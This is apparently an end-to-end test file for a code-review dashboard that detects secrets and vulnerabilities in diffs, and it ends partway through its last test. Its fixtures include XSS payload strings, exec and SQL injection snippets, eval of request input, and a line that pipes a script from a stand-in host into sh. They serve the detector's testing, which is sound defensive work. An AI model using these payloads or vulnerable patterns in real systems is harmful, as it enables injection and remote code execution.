import test from 'ava';
import type { Page, Route } from 'playwright-core';
import type { NextStep } from '../../src/model/next-steps.ts';
import { change, newFile } from '../daemon.ts';
import { AWS_KEY } from '../decision-calls.ts';
import { samplePush } from '../store/fixtures/pushes.ts';
import {
  addRemarks,
  blockedChange,
  dashboardForAll,
  decisionsOf,
  emergencyElsewhere,
  logIn,
  objectElsewhere,
  openAll,
  openBlocked,
  overrideElsewhere,
  REASON,
  silencePulse,
  submitSamples,
  typePassword,
  views,
  violations,
} from './page.ts';

/** Markup, text that reads backwards, a scheme, the end of a script, an unseen space. */
const HOSTILE =
  '<img src=x onerror="document.title=1">\u202egnp.exe javascript:document.title=1' +
  '"\'></script><svg onload=document.title=1>\u200b';
/** Names hold no control characters; texts do. */
const HOSTILE_TEXT = `${HOSTILE}\u0000\u001b[2J`;
const UNSEEN = /[\p{Cf}\0]/u;

const dashboard = dashboardForAll(test);

test.serial('by keyboard alone: queue, change, reason, decision, next', async (t) => {
  const house = dashboard();
  const { page } = await house.visit(t);
  const id = await house.submit(blockedChange());
  await page.goto(`${house.origin}/cra`);
  await page.waitForSelector('input[name=password]:focus');
  await typePassword(page);
  // The first page, and the queue from there.
  await page.waitForSelector('.drawing');
  await page.keyboard.press('g');
  await page.keyboard.press('q');
  await page.waitForSelector('table.queue a');
  await page.keyboard.press('j');
  await page.keyboard.press('Enter');
  await page.waitForSelector('dialog.drawer >> text=deploy/env.sh');
  await page.keyboard.press('Escape');
  await page.locator('dialog').waitFor({ state: 'detached' });
  await page.keyboard.press('Enter');
  await page.waitForSelector('dialog.drawer a:focus');
  await page.keyboard.press('Enter');
  await page.waitForSelector('#reason');
  t.true(page.url().endsWith(id));
  await page.keyboard.press('a');
  await page.keyboard.type(REASON);
  await page.keyboard.press('Control+Enter');
  await page.waitForSelector('text=recorded in the audit trail');
  await page.keyboard.press('Escape');
  await page.keyboard.press('n');
  await page.waitForSelector('text=No other change is blocked');
  for (const [keys, hash] of [
    ['gs', '#/status'],
    ['go', '#/overview'],
    ['gr', '#/rules'],
    ['gq', '#/queue'],
    ['?', '#/help'],
  ] as const) {
    for (const key of keys) await page.keyboard.press(key);
    await page.waitForURL((url) => url.hash === hash);
  }
  t.deepEqual(await decisionsOf(house, id), ['override']);
  // Another filter begins another list.
  await page.goto(`${house.origin}/cra#/queue`);
  await tabTo(page, 'a[href="#/queue?q=is%3Aoverridden"]');
  await page.keyboard.press('Enter');
  await page.waitForSelector(`table.queue a[href="#/rfc/${id}"]`);
  t.is(await page.locator('text=/\\d+ new: show/').count(), 0);
  // A search stands in the address; a wrong term is named, and the text stays.
  await page.keyboard.press('/');
  await page.keyboard.press('ControlOrMeta+a');
  await page.keyboard.type('is:any severity:critical env colour:red');
  await page.keyboard.press('Enter');
  await page.waitForSelector('text=/"colour:red" has no such key/');
  await page.fill('#filter', 'is:overridden repo:acme/shop');
  await page.press('#filter', 'Enter');
  await page.waitForSelector(`table.queue a[href="#/rfc/${id}"]`);
  t.is(new URL(page.url()).hash, '#/queue?q=is%3Aoverridden+repo%3Aacme%2Fshop');
  await page.click('text=my changes');
  await page.waitForSelector('text=Nothing matches this search');
  // A search is kept under a name, and leads back.
  await page.click('text=Save this view');
  await page.fill('.menu[open] input', 'Mine');
  await page.press('.menu[open] input', 'Enter');
  const mine = page.locator('[aria-label="Saved views"] a', { hasText: 'Mine' });
  await mine.waitFor();
  const address = page.url();
  await page.goto(`${house.origin}/cra#/queue`);
  await page.click('text=Mine');
  await page.waitForURL(address);
  t.deepEqual(await violations(page), []);
  await page.click('text=Forget this view');
  await mine.waitFor({ state: 'detached' });
});

test.serial('a finding says where it stood before, and a person is asked to decide', async (t) => {
  const house = dashboard();
  const { page, problems, open } = await house.visit(t);
  const over = { repo_name: 'seen/before' };
  const first = await house.submit(blockedChange(over));
  const second = await house.submit(blockedChange(over));
  const third = await house.submit(blockedChange(over));
  await overrideElsewhere(house, first);
  await open(`#/rfc/${third}`, '.seen');
  const seen = await page.innerText('.seen');
  t.regex(seen, /^Seen before on 2 changes, decided as\s+OVERRIDDEN\s+by bob: “Bob was faster/);
  await page.click('text=Ask somebody else');
  await page.fill('[aria-label="Asked to decide"] input', 'Local-Admin');
  await page.press('[aria-label="Asked to decide"] input', 'Enter');
  await page.waitForSelector('text=/local-admin asked Local-Admin/');
  t.deepEqual(await violations(page), []);
  await page.click('text=Timeline');
  await page.waitForSelector('.timeline >> text=/asked Local-Admin to decide/');
  await page.click('.tabs >> text=Findings');
  await page.click('text=Decide about all with it');
  await page.waitForSelector(`[aria-label="Override ${second}"]`);
  await page.locator('main tbody tr').nth(2).waitFor({ state: 'detached' });
  t.is(await page.locator('main tbody tr').count(), 2, 'the BLOCKED changes');
  t.is(await page.locator(`[aria-label="Override ${third}"]`).count(), 1);
  t.is(await page.locator(`[aria-label="Override ${first}"]`).count(), 0);
  await open('#/queue', 'table.queue');
  await page.click('text=asked of me');
  await page.waitForURL(/asked/);
  await page.locator('table.queue tbody tr').nth(1).waitFor({ state: 'detached' });
  await page.waitForSelector(`table.queue a[href="#/rfc/${third}"]`);
  t.is(await page.locator('table.queue tbody tr').count(), 1);
  // The next change of the branch has another finding, in a file that is changed otherwise.
  const next =
    newFile('deploy/env.sh', 'export AWS_KEY=$1\n') + newFile('a.js', 'eval(req.body.a)\n');
  const fourth = await house.submit(change(next, over));
  await open(`#/rfc/${fourth}`, 'text=1 finding gone');
  await page.click('.tabs >> text=Compare');
  await page.waitForSelector('.code-box');
  t.regex(await page.innerText('[aria-label="Compare"]'), /New findings 1.*Gone findings 1/s);
  const differing = await page.locator('.code-box tr').allInnerTexts();
  t.deepEqual(
    differing.map((line) => line.replaceAll(/\s+/g, ' ').trim()),
    ['− export AWS_KEY=[secret 1]', '+ export AWS_KEY=$1', '+ eval(req.body.a)'],
  );
  // Any other change of the branch: the first one has the same secret, and a later one is last.
  await page.click('summary:has-text("Compare with")');
  await page.click(`[aria-label=Compare] .menu a[href*="with=${first}"]`);
  await page.waitForSelector(`[aria-label=Compare] > p a[href="#/rfc/${first}"]`);
  await open(`#/rfc/${first}?tab=compare&with=${fourth}`, 'h2:has-text("New findings 1")');
  const order = await page.locator('[aria-label=Compare] > p a').all();
  t.deepEqual(await Promise.all(order.map((link) => link.getAttribute('href'))), [
    `#/rfc/${first}`,
    `#/rfc/${fourth}`,
  ]);
  await page.waitForSelector('.code-box');
  t.deepEqual(await violations(page), []);
  // Filters of the queue say how many changes they would leave.
  await open('#/queue?q=is:blocked repo:seen/before', '.facets');
  const choice = (text: string) => page.locator('.facets > a', { hasText: text });
  t.regex(await choice('high').innerText(), /high\s+2/);
  t.regex(await choice('critical').innerText(), /critical\s+1/);
  await page.locator('[aria-label=Status] a:has-text("overridden") .count:has-text("1")').waitFor();
  await page.click('.facets summary:has-text("Rule")');
  t.deepEqual(await violations(page), []);
  await page.click('.facets .menu a:has-text("vuln-02")');
  await page.waitForURL(/rule%3Avuln-02|rule:vuln-02/);
  await page.waitForSelector(`table.queue tbody tr:only-child a[href="#/rfc/${fourth}"]`);
  await choice('vuln-02').click();
  await page.locator('table.queue tbody tr').nth(2).waitFor();
  // What is too large is not shown, with the reason.
  const reason = 'the diff has 52428801 bytes, and up to 52428800 are shown';
  await changeAnswer(page, `**/rfc/${fourth}/changes`, { available: false, reason, files: [] });
  await open(`#/rfc/${fourth}?tab=changes`, `text=The change is not shown: ${reason}.`);
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.keyboard.press('c');
  await page.waitForSelector('.toast:has-text("Address copied")');
  t.deepEqual(problems, []);
});

test.serial('the overview: figures, charts by their names, and the same as tables', async (t) => {
  const house = dashboard();
  const { page, problems, open } = await house.visit(t);
  const repo_name = 'over/view';
  const ids = [];
  for (const name of ['a', 'b', 'c']) {
    const diff = newFile(`${name}.env`, `KEY=${AWS_KEY}\n`);
    ids.push(await house.submit(change(diff, { repo_name })));
  }
  await house.submit(change(newFile('a.md', 'Plain\n'), { repo_name }));
  await overrideElsewhere(house, ids[0] ?? '');
  await house.call('usage/log', {
    provider: 'p',
    model: 'm',
    input_tokens: 1,
    output_tokens: 1,
    cost_usd: 0.25,
  });
  await open('#/overview?days=7', '.drawing');
  t.regex(await page.innerText('.tiles'), /LLM review\s+\$0\.2500/);
  const ranked = page.locator('.chart', { hasText: 'Repositories' });
  await page.fill('#filter', repo_name);
  await page.press('#filter', 'Enter');
  await page.waitForSelector('.tiles >> text=3 of 4 changes');
  t.is(await ranked.count(), 0, 'one repository has no list of repositories');
  const tiles = (await page.innerText('.tiles')).replaceAll(/\s+/g, ' ');
  t.regex(tiles, /Blocked share 75 % 3 of 4 changes/);
  t.regex(tiles, /Time to decide \d+ s 90 % within/);
  t.regex(tiles, /Overridden 100 % 1 of 1; false alarms: 0/);
  t.regex(tiles, /Secrets found 3 /);
  t.regex(await page.innerText('.chart:has-text("Noisiest rules")'), /secret-aws.*1 of 1/s);
  const verdicts = page.getByRole('img', { name: /^Verdicts: blocked, carried, passed, from / });
  t.is(await verdicts.locator('rect').count(), 2);
  const box = await verdicts.boundingBox();
  await page.mouse.move((box?.x ?? 0) + (box?.width ?? 0) - 4, (box?.y ?? 0) + 20);
  const legend = page.locator('.chart:has-text("Verdicts") .legend');
  t.regex(await legend.innerText(), /blocked\s+3\s+carried\s+0\s+passed\s+1/);
  await page.click('.chart:has-text("Verdicts") summary');
  const last = page.locator('.chart:has-text("Verdicts") tbody tr').last();
  await last.waitFor();
  t.deepEqual(await last.locator('td').allInnerTexts(), ['3', '0', '1']);
  t.is(await page.locator('.deploys').count(), 0, 'no deploy was reported');
  const repo = repo_name;
  const [old, next] = ['a', 'b'].map((digit) => digit.repeat(40));
  for (const [sha, result] of [
    [old, 'succeeded'],
    [next, 'succeeded'],
    [next, 'rolled_back'],
  ]) {
    await house.call('deploys', { repo, environment: 'prod', sha, result });
  }
  await house.submit(blockedChange({ repo_name }));
  await page.reload();
  const deploys = page.locator('.deploys');
  await deploys
    .locator('.tiles >> text=the newest commit may not go out; of 1 place asked')
    .waitFor();
  const figures = (await deploys.locator('.tiles').innerText()).replaceAll(/\s+/g, ' ');
  t.regex(figures, /Deploys held 1 .* Deploys 2 .* Change failure share 50 % 1 of 2 deploys/);
  const cells = await deploys.locator('table.rows tbody td').allInnerTexts();
  t.is(cells[3], '50 %: 1 rolled back');
  await deploys
    .getByRole('img', { name: /^Deploys over time: failed, succeeded, from / })
    .waitFor();
  await page.click('text=by week');
  await page.waitForURL(/by=week/);
  await page.waitForSelector('.times >> text=/week of/');
  // A freeze that began a minute ago; a person lets one commit pass it.
  await page.evaluate(async (calendar) => {
    const answer = await fetch('/api/cra/rules');
    const etag = answer.headers.get('ETag') ?? '';
    const freeze = {
      id: 'year-end',
      reason: 'the end of the year',
      repos: ['over/view'],
      calendar,
    };
    const body = JSON.stringify({ version: 1, extends: 'default', freezes: [freeze] });
    const headers = { 'Content-Type': 'application/json', 'If-Match': etag };
    const put = await fetch('/api/cra/rules', { method: 'PUT', headers, body });
    if (!put.ok) throw new Error(await put.text());
  }, freezeOfToday());
  await page.reload();
  const freeze = deploys.locator('td[data-title="Held now"]');
  await freeze.locator('text=/A cab-member may let a commit pass/').waitFor();
  await freeze.locator('summary').click();
  await freeze.locator('input').fill('c'.repeat(39));
  await freeze.locator('textarea').fill(REASON);
  await freeze.locator('button').click();
  await freeze.locator('text=Give the full commit id').waitFor();
  t.deepEqual(await violations(page), []);
  await freeze.locator('input').fill('c'.repeat(40));
  await freeze.locator('button').click();
  await freeze.locator('text=/may pass this freeze: entry \\d+ of the audit trail/').waitFor();
  const entry = await page.evaluate(async () => {
    const answer = await fetch('/api/cra/audit?kind=deploy');
    const { data } = (await answer.json()) as { data: object[] };
    return data[0];
  });
  t.like(entry, { reason: REASON, details: { freeze: 'year-end', sha: 'c'.repeat(40) } });
  t.deepEqual(await violations(page), []);
  t.deepEqual(problems, []);
});

/** A calendar (RFC 5545) with one event: from a minute ago to an hour from now. */
function freezeOfToday(): string {
  const [start, end] = [-1, 60].map((minutes) => {
    const text = new Date(Date.now() + minutes * 60_000).toISOString();
    return `${text.slice(0, 19).replaceAll(/[-:]/g, '')}Z`;
  });
  return `DTSTART:${start}\nDTEND:${end}`;
}

test.serial('rules: searched, what each finds and does not, tried in place', async (t) => {
  const house = dashboard();
  const { page, problems, open } = await house.visit(t);
  const id = await house.submit(blockedChange({ repo_name: 'rules/page' }));
  await overrideElsewhere(house, id);
  // From a finding to its rule.
  await open(`#/rfc/${id}`, '.finding');
  await page.click('.finding-head >> text=secret-aws-access-key-id');
  await page.waitForSelector('.examples');
  t.is(new URL(page.url()).hash, '#/rules/rule/secret-aws-access-key-id');
  t.regex(await page.innerText('h1'), /AWS access key id/);
  t.regex(await page.innerText('aside'), /Mode\s+block\s+Class\s+CWE-798/);
  await page.waitForSelector('aside >> text=/\\d+ % \\d+ of \\d+/');
  t.is(await page.locator('.examples pre').count(), 2);
  await page.click('text=Try a text');
  await page.click('text=/^Try$/');
  await page.waitForSelector('text=It finds something here.');
  await page.fill('textarea', 'export AWS_REGION=eu-west-1');
  await page.click('text=/^Try$/');
  await page.waitForSelector('text=It finds nothing here.');
  t.deepEqual(await violations(page), []);
  // A past change with such a finding, and a past change without.
  const plain = await house.submit(change(newFile('a.md', 'Plain\n')));
  await page.click('text=Try a past change');
  const past = page.locator('details:has-text("Try a past change")');
  for (const [tried, answer] of [
    [id, 'It finds something here.'],
    [plain, 'It finds nothing here.'],
  ] as const) {
    await past.locator('input').fill(tried);
    await past.locator('button').click();
    await past.locator(`text=${answer}`).waitFor();
  }
  await page.click('text=All rules');
  await page.waitForSelector('table.rules tbody tr');
  t.is(await page.locator('table.rules tbody tr').count(), 100, 'a part of them is made');
  // What was found of late comes first.
  await page.waitForSelector('table.rules tbody tr:first-child >> text=secret-aws');
  await page.fill('#filter', 'CWE-78 python shell');
  await page.press('#filter', 'Enter');
  await page.waitForSelector('table.rules a[href="#/rules/rule/vuln-01"]');
  await page.locator('table.rules tbody tr').nth(19).waitFor({ state: 'detached' });
  t.regex(page.url(), /q=CWE-78\+python\+shell/);
  await open('#/rules/rule/llm-injection', 'text=This rule has no pattern');
  // Its severity and mode, changed by the form, are in force afterwards.
  await open('#/rules/rule/risk-alembic-drop', 'text=Change its severity or mode');
  await page.click('text=Change its severity or mode');
  await page.selectOption('label:has-text("Severity") select', 'low');
  await page.selectOption('label:has-text("Mode") select', 'monitor');
  await page.click('text=Write into the file');
  await page.click('text=Put in force');
  const said = await page.locator('text=/In force as revision \\d+/').innerText();
  const number = /revision (\d+)/.exec(said)?.[1];
  await open(`#/rules/revisions/${number}`, 'text=/In force. Made by local-admin/');
  const since = await page.innerText('ul.changes');
  t.regex(since, /severities.*risk-alembic-drop.*pipeline.*monitor/s);
  await open('#/rules/rule/risk-alembic-drop', 'aside >> text=monitor');
  t.regex(await page.innerText('h1'), /low/);
  await page.click('text=Who changed it');
  await page.waitForSelector('aside >> text=/Revision \\d+ by local-admin/');
  // A mode that lowers vulnerabilities is refused, until the tick says that it is meant.
  await open('#/rules/edit?rule=vuln-01', 'textarea');
  await page.selectOption('label:has-text("Mode") select', 'warn');
  await page.click('text=Write into the file');
  await page.click('text=Try over recent RFCs');
  await page.waitForSelector('text=/^rules: modes lower vuln-01/');
  await page.check('label:has-text("allow_weaker") input');
  await page.click('text=Write into the file');
  await page.click('text=Try over recent RFCs');
  await page.waitForSelector('section[role=status] h2:has-text("recent RFCs")');
  t.deepEqual(problems, []);
});

test.serial('a change with three findings is decided in its first view', async (t) => {
  const house = dashboard();
  const { page, open } = await house.visit(t);
  const code = [
    "app.get('/backup', (req, res) => {",
    '  const name = req.query.name;',
    "  const command = 'tar czf /backups/' + name + '.tgz data';",
    '  exec(command, () => res.end());',
    '});',
    "app.get('/orders', async (req, res) => {",
    '  const id = req.params.id;',
    "  res.json(await db.query('select * from orders where id = ' + id));",
    '});',
  ].join('\n');
  const diff = newFile('src/backup.js', code) + newFile('deploy/env.sh', `KEY=${AWS_KEY}\n`);
  const id = await house.submit(change(diff));
  await page.setViewportSize({ width: 1440, height: 900 });
  await open(`#approve-${id}`, '.finding .code');
  t.regex(
    await page.innerText('h1'),
    /Request parameter name reaches a shell command in src\/backup/,
  );
  const inView = `[...document.querySelectorAll('h1, .finding, .decide button.main')]
    .filter((each) => each.getBoundingClientRect().bottom <= innerHeight).length`;
  t.is(await page.evaluate(inView), 5);
  await page.fill('#reason', REASON);
  await page.fill('text=Type override vuln-01', 'override vuln-01');
  await page.click('button.main');
  await page.waitForSelector('text=recorded in the audit trail');
  t.is(await page.evaluate('scrollY'), 0);

  // In reach of one thumb: the bar at the bottom opens the same form.
  await page.setViewportSize({ width: 390, height: 844 });
  await open(`#approve-${await house.submit(change(diff))}`, '.finding .code');
  t.false(await page.isVisible('#reason'));
  const bar = await page.locator('.decide').boundingBox();
  t.is(Math.round((bar?.y ?? 0) + (bar?.height ?? 0)), 844);
  await page.click('text=/^Decide$/');
  await page.fill('#reason', REASON);
  t.deepEqual(await violations(page), []);
});

test.serial(
  'findings: by file, filtered, one accepted for a time, one a false alarm',
  async (t) => {
    const house = dashboard();
    const { page, problems, open } = await house.visit(t);
    const repo = 'per/finding';
    const shell = "const all = 'ls ' + req.query.dir;\nexec(all);\n";
    const diff = [
      newFile('src/list.js', `${shell}eval(req.query.a);\n`),
      newFile('deploy/env.sh', `KEY=${AWS_KEY}\n`),
      newFile('install.sh', 'curl -s https://a.example/i | sh\n'),
      newFile('src/page.js', 'res.send(req.query.b);\n'),
    ];
    const id = await house.submit(change(diff.join(''), { repo_name: repo }));
    const sha = 'a'.repeat(40);
    await house.call('deploys', { repo, environment: 'staging', sha, result: 'succeeded' });
    await open(`#/rfc/${id}`, '.finding .code');
    const findings = page.locator('.finding');
    await page.keyboard.press('j');
    await page.waitForSelector('.finding:focus');
    await page.keyboard.press(']');
    await page.keyboard.press(']');
    t.regex(await page.innerText(':focus'), /^sink/);
    await page.keyboard.press('[');
    t.regex(await page.innerText(':focus'), /^source/);
    await page.click('text=by file');
    await page.waitForURL(/by=file/);
    await page.waitForSelector('summary >> text=src/list.js');
    await page.keyboard.press('/');
    await page.keyboard.type('high env.sh');
    await page.waitForSelector('text=1 found');
    t.is(await findings.count(), 1);
    t.deepEqual(await violations(page), []);
    // The heading is about the change, whatever the filter leaves.
    await page.click('text=by severity');
    await page.waitForURL((url) => !/by=file/.test(url.href));
    await page.fill('#filter', 'no such words');
    await page.waitForSelector('text=0 found');
    t.is(await page.locator('text=No critical or high findings').count(), 0);
    await page.fill('#filter', 'high env.sh');
    await page.waitForSelector('text=1 found');
    // One word of a person counts at the rule, and moves no verdict.
    const secret = page.locator('.finding:has-text("secret-aws")');
    await secret.locator('summary:has-text("False alarm")').click();
    await secret.locator('textarea').fill('A key of the documentation');
    await secret.locator('button[type=submit]').click();
    await secret.locator('.badge:has-text("false alarm")').waitFor();
    await secret.locator('summary:has-text("No false alarm")').waitFor();
    t.regex(await page.innerText('h1'), /BLOCKED/);
    t.regex(await page.innerText('header.rfc-head'), /on hold: deploys to staging/);
    await secret.locator('button:has-text("Accept")').click();
    await page.waitForSelector('.tick >> text=/Accept 1 of the findings/');
    const until = await page.inputValue('[type=date]');
    await page.fill('#reason', REASON);
    // Both are kept in this tab, once the page has drawn what was typed.
    await page.waitForFunction(
      `Object.values(sessionStorage).some((one) => one.includes(${JSON.stringify(REASON)}))`,
    );
    await page.reload();
    await page.waitForSelector('.tick >> text=/Accept 1 of the findings/');
    t.is(await page.inputValue('[type=date]'), until);
    t.is(await page.inputValue('#reason'), REASON);
    await page.fill('text=Type override vuln-', 'override vuln-01');
    await page.click('button.main');
    await page.waitForSelector('text=recorded in the audit trail');
    const accepted = await house.call<{ rule: string; expires_at: string }[]>(
      `accepted?repo=${repo}`,
    );
    t.deepEqual(
      accepted.map(({ rule, expires_at: end }) => [rule, end]),
      [['secret-aws-access-key-id', `${until}T00:00:00.000Z`]],
    );
    await open(`#/overview?repo=${repo}`, '.tiles');
    await page.waitForSelector('.tiles >> text=/false alarms: 1/');
    await open('#/rules/rule/secret-aws-access-key-id', 'aside dd:text-is("1")');
    t.regex(await page.innerText('aside'), /False alarms\s+1$/m);
    t.deepEqual(problems, []);
  },
);

test.serial('the way of the data is a list of stops with the lines that it passes', async (t) => {
  const house = dashboard();
  const { page, open } = await house.visit(t);
  const far = Array.from({ length: 30 }, (_, index) => `log(${index});`);
  const lines = ['const dir = req.query.dir;', ...far, "const all = 'ls ' + dir;", 'exec(all);'];
  const text = `${lines.join('\n')}\n`;
  const id = await house.submit(change(newFile('src/a.js', text)));
  await open(`#/rfc/${id}`, '.flow .text');
  t.is(
    await page.innerText('.finding h3 > :last-child'),
    'Request parameter dir reaches a shell command',
  );
  // The lines around the sink are shown, those of the source are not.
  t.deepEqual(await page.locator('.flow li').allTextContents(), [
    'source line 1 request parameter dir, assigned to dir',
    "step line 32 const all = 'ls ' + dir; assigned to all",
    'sink line 33 exec(all); shell command of exec',
  ]);
  await tabTo(page, '.finding summary');
  await page.keyboard.press('Enter');
  await page.waitForSelector('.finding tr.hit .text');
  t.deepEqual(await page.locator('.finding tr.hit .text').allTextContents(), ['exec(all);']);
  t.deepEqual(await violations(page), []);
  const plain = await house.submit(blockedChange());
  await open(`#/rfc/${plain}`, '.finding .code');
  t.is(await page.locator('.flow').count(), 0);
});

test.serial(
  'the change by file: marks lead to findings, secrets are hidden, side by side',
  async (t) => {
    const house = dashboard();
    const { page, problems, open } = await house.visit(t);
    const long = Array.from({ length: 900 }, (_, n) => `log(${n});`).join('\n');
    const binary = 'diff --git a/run.so b/run.so\nnew file mode 100755\nindex 0000000..1111111\n';
    const diff = [
      newFile('src/a.js', `${long}\neval(req.query.a);\n`),
      newFile('env.sh', `KEY=${AWS_KEY}\n`),
      newFile('yarn.lock', '# yarn lockfile v1\n'),
      newFile('src/api.ts', '// @generated by a tool\nexport {};\n'),
      newFile('dist/app.js', 'const one = 1;\nconst two = 2;\n'),
      newFile('dist/other.js', 'const one = 1;\nconst two = 2;\n'),
      newFile('package-lock.json', '{\n  "lockfileVersion": 3,\n  "packages": { "": \n'),
      newFile('k8s/deploy.yaml', 'apiVersion: apps/v1\nkind: Deployment\nspec: [a\n  b: {\n'),
      `${binary}Binary files /dev/null and b/run.so differ\n`,
      'diff --git a/src/b.js b/src/b.js\n--- a/src/b.js\n+++ b/src/b.js\n',
      '@@ -1 +1 @@\n-one();\n+eval(req.query.b);\n',
    ].join('');
    const id = await house.submit(change(diff));
    await open('#/overview', '.tiles');
    await addFinding(page, id, { file: 'dist/app.js', line: 2 });
    await open(`#/rfc/${id}`, '.finding .place a');
    await page.click('.finding:has-text("vuln-02") .place a');
    // The line of the finding is in view, at the end of a file of which little is made.
    await page.waitForSelector('.file tr.hit:has-text("eval(req.query.a);")');
    await page.waitForFunction(
      "document.querySelector('.file tr.hit').getBoundingClientRect().top < innerHeight",
    );
    t.true((await page.locator('.file tr').count()) < 600);
    t.false((await page.innerText('main')).includes(AWS_KEY));
    t.deepEqual(await violations(page), []);
    // What a program wrote is folded by its name, unless a finding names it; what no gate read, and
    // what only calls itself generated, says so.
    for (const [file, badges, isShown] of [
      ['yarn.lock', /^generated$/, false],
      ['dist/other.js', /^generated$/, false],
      ['dist/app.js', /^$/, true],
      ['src/api.ts', /^says it is generated$/, true],
      ['package-lock.json', /^1\s+finding\s+not looked at$/, true],
      ['k8s/deploy.yaml', /^1\s+finding\s+not looked at$/, true],
      ['run.so', /^1\s+finding\s+not looked at$/, null],
    ] as const) {
      const box = page.locator(`[data-file="${file}"]`);
      t.regex((await box.locator('summary .badge').allInnerTexts()).join(' ').trim(), badges, file);
      if (isShown !== null) t.is(await box.locator('figure').isVisible(), isShown, file);
    }
    t.regex(await page.innerText('[data-file="run.so"]'), /not looked at.*Binary file/s);
    t.regex(await page.innerText('[data-file="k8s/deploy.yaml"]'), /not looked at.*is not YAML/s);
    t.regex(await page.innerText('[data-file="dist/app.js"]'), /low\s+line 2: Nobody calls it/);
    // The files stand beside their lines, and lead to them.
    t.regex(await page.innerText('.tree'), /src\/\s+a\.js\s+1\s+finding/);
    t.regex(await page.innerText('.tree'), /package-lock\.json\s+1\s+finding/);
    await page.click('.tree >> text=env.sh');
    await page.waitForSelector('.file summary:focus >> text=env.sh');
    // How the lines stand is part of the address.
    await page.click('text=Side by side');
    await page.click('.tree >> text=b.js');
    await page.waitForSelector('.split tr.hit');
    await page.reload();
    await page.click('.tree >> text=b.js');
    await page.waitForSelector('.split tr.hit');
    t.regex(page.url(), /view=split/);
    t.deepEqual(await violations(page), []);
    // A new file has nothing at the other side.
    t.is(await page.locator('[data-file="env.sh"] .split').count(), 0);
    await page.click('tr.hit + tr a.badge');
    await page.waitForSelector('.finding:focus');
    t.deepEqual(problems, []);
  },
);

test.serial('of a changed line the words are marked that are new', async (t) => {
  const house = dashboard();
  const { page, problems, open } = await house.visit(t);
  const diff = [
    'diff --git a/src/a.js b/src/a.js',
    'index 1111111..2222222 100644',
    '--- a/src/a.js',
    '+++ b/src/a.js',
    '@@ -1,4 +1,4 @@',
    ' const a = 1;',
    '-const total = price * count;',
    '-all of this line is other text',
    '+const total = price * amount;',
    '+nothing was kept; see below',
    ' log(total);\n',
  ].join('\n');
  const id = await house.submit(change(diff));
  await open(`#/rfc/${id}?tab=changes`, '.word');
  t.deepEqual(await page.locator('.word').allTextContents(), ['count', 'amount']);
  await page.click('text=Side by side');
  await page.waitForSelector('.split .word');
  t.deepEqual(await page.locator('.word').allTextContents(), ['count', 'amount']);
  t.deepEqual(await violations(page), []);
  t.deepEqual(problems, []);
});

test.serial('the status page is a map of the parts with what they measured', async (t) => {
  const house = dashboard();
  const { page, problems, open } = await house.visit(t);
  await house.submit(blockedChange());
  await open('#/status', '.map .facts');
  t.deepEqual(await page.locator('.map > section > h2').allInnerTexts(), [
    'Comes in',
    'Is judged',
    'Is kept',
    'Others',
  ]);
  const store = page.locator('.map section section', { hasText: 'keeps changes' });
  await store.locator('text=/now \\d+ a minute/').waitFor();
  t.regex(await store.innerText(), /Calls\s+\d+, now \S+ a minute\s+99 % within\s+[\d.]+ m?s/);
  const front = page.locator('.map section section', { hasText: 'Front end' });
  await front.locator('text=/now \\d+ a minute/').waitFor();
  t.regex(await front.innerText(), /Answered with a failure of ours\s+0/);
  t.notRegex(await page.innerText('.map'), /\[object/);
  // A part that is down says what to do.
  await page.route('**/dispatcher/status', async (route) => {
    if (route.request().headers()['accept'] === 'text/plain') return route.fallback();
    const answer = (await (await route.fetch()).json()) as { data: { git: object } };
    const git = { state: 'down', version: null };
    return route.fulfill({ json: { ...answer, data: { ...answer.data, git } } });
  });
  await page.reload();
  await page.waitForSelector('.problem >> text=Install git 2.39 or newer');
  t.deepEqual(await violations(page), []);
  t.deepEqual(problems, []);
});

test.serial('each of two findings in one place has lines of its own, and marks them', async (t) => {
  const house = dashboard();
  const { page, open } = await house.visit(t);
  const text = "eval(req.query.a);\nlog(1);\nexec('ls ' + req.query.b);\n";
  await open(`#/rfc/${await house.submit(change(newFile('a.js', text)))}`, '.finding .code');
  const marked = await page.locator('.finding tr.hit .text').allTextContents();
  t.deepEqual(marked.toSorted(), ['eval(req.query.a);', "exec('ls ' + req.query.b);"]);
});

test.serial(
  'the head says what waits for the newest change of a branch, and until when',
  async (t) => {
    const house = dashboard();
    const { page, problems, open } = await house.visit(t);
    const repo = 'waits/here';
    const sha = 'c'.repeat(40);
    for (const environment of ['a', 'b', 'c', 'd', 'e', 'f', 'g']) {
      await house.call('deploys', { repo, environment, sha, result: 'succeeded' });
    }
    const asked: string[] = [];
    page.on('request', (request) => {
      if (/\/deploys\?/.test(request.url())) asked.push(request.url());
    });
    const old = await house.submit(blockedChange({ repo_name: repo, branch: 'one' }));
    const newest = await house.submit(blockedChange({ repo_name: repo, branch: 'one' }));
    await house.submit(blockedChange({ repo_name: repo, branch: 'two' }));
    await open(`#/queue?q=repo:${repo}`, 'table.queue');
    await page.click('table.queue tbody td:nth-child(4)');
    await page.waitForSelector('dialog .rfc-head');
    await open(`#/rfc/${old}`, '.beside .history a');
    t.deepEqual(asked, [], 'neither a preview nor an older change needs them');
    t.notRegex(await page.innerText('.rfc-head'), /on hold/);
    await open(`#/rfc/${newest}`, 'text=on hold');
    await page.waitForSelector('.rfc-head >> text=/deploys to a, b, c, d, e and 2 more/');
    await page.click('.tabs >> text=Timeline');
    await page.waitForSelector('.timeline');
    t.is(asked.length, 1);

    // A DRAFT whose gates have run waits for the report that is due last.
    const dueAt = (hours: number) =>
      new Date(Date.now() + hours * 3_600_000 + 60_000).toISOString();
    const report = { tool: 'semgrep', component: null, state: 'awaited' };
    const required_reports = [
      { ...report, due_at: dueAt(2) },
      { ...report, tool: 'trivy', due_at: dueAt(1) },
      { ...report, tool: 'grype', due_at: dueAt(9), state: 'came' },
    ];
    await changeAnswer(page, `**/api/cra/rfc/${newest}`, {
      overall_status: 'DRAFT',
      required_reports,
    });
    await page.reload();
    await page.waitForSelector('h1:has-text("DRAFT")');
    t.regex(await page.innerText('h1'), /waits for reports of semgrep, trivy, due in 2 hr/);
    t.deepEqual(problems, []);
  },
);

test.serial('a finding is accepted for as long as the rules allow, and 100 at most', async (t) => {
  const house = dashboard();
  const { page, problems, open } = await house.visit(t);
  const id = await house.submit(blockedChange());
  const { next_steps: steps } = await house.call<{ next_steps: NextStep[] }>(`rfc/${id}`);
  const more = Array.from({ length: 101 }, (_, index) => `F-${index}`);
  const next_steps = steps.map((step) =>
    step.way === 'accept'
      ? { ...step, max_days: 30, finding_ids: [...(step.finding_ids ?? []), ...more] }
      : step,
  );
